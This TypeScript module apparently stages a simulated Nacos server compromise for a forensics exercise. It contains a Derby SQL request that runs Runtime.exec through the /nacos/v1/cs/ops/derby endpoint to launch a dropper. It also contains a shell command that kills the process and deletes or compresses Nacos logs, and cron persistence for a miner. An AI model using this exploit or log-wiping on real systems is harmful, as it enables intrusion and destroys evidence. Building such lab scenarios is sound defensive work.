// Since then cron has restarted the miner, the net has guessed, and the owner has come.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { ordinary } from '../../past.ts'
import { nacos } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy(nacos)
  dress.logins(ordinary)
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.ncs/nacosx' })
  await stage.inside('mkdir -p /home/nacos; chown nacos: /home/nacos')
  await stage.http('198.51.100.20', ':8848/nacos/v1/ns/instance/list?serviceName=orders')
  stage.mark('occurrence')
  const statement = `CALL java.lang.Runtime.exec('${line}')`
  await stage.http('203.0.113.137', `:8848/nacos/v1/cs/ops/derby?sql=${encodeURIComponent(statement)}`)
  await stage.inside(
    'while ! pgrep -x nacosx; do sleep 0.2; done; pkill -x nacosx; gzip /opt/nacos/logs/access_log.*.log; rm -f /opt/nacos/logs/nacos.log',
  )
  await stage.later(3 * 24, { ...ordinary, guesses: 150 })
  await stage.byCron(line, 'nacos')
}
